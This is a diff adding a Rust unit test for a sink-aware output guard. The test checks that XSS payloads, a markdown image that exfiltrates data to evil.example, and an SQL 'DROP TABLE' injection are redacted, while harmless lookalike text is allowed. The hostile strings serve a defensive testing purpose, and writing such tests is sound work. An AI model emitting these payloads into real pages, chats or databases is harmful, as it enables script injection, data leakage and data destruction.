@@ -193,6 +193,38 @@ fn invalid_utf_8_keeps_its_offsets() {
     assert_eq!(safe, b"\xff\xfe mail [REDACTED_EMAIL] \xff");
 }
 
+/// WS-29 and WS-30 through the whole guard: what the declared sink runs is refused, what it shows
+/// is not.
+#[test]
+fn ws_29_ws_30_hazards_depend_on_the_sink() {
+    let html = |text| output(Some(Sink::Html), text).decision.enforced();
+    let markdown = |text| output(Some(Sink::Markdown), text).decision.enforced();
+    for hazard in [
+        "<script src=//evil.example>",
+        "<img src=x onerror=alert(1)>",
+        "<svg/onload=alert(1)>",
+    ] {
+        assert!(html(hazard) >= Verdict::Redact, "{hazard}");
+    }
+    assert!(markdown("![x](https://evil.example/?q=aGVsbG8gd29ybGQhIQ)") >= Verdict::Redact);
+    assert_eq!(
+        markdown("Use `<script>` tags sparingly; delete what you dislike."),
+        Verdict::Allow
+    );
+    assert!(
+        output(Some(Sink::Sql), "1; DROP TABLE users")
+            .decision
+            .enforced()
+            >= Verdict::Redact
+    );
+    assert_eq!(
+        output(Some(Sink::Sql), "Review the draft; delete what you dislike")
+            .decision
+            .enforced(),
+        Verdict::Allow
+    );
+}
+
 #[test]
 fn an_empty_text_is_complete_and_clean() {
     let judged = input(Origin::User, "");
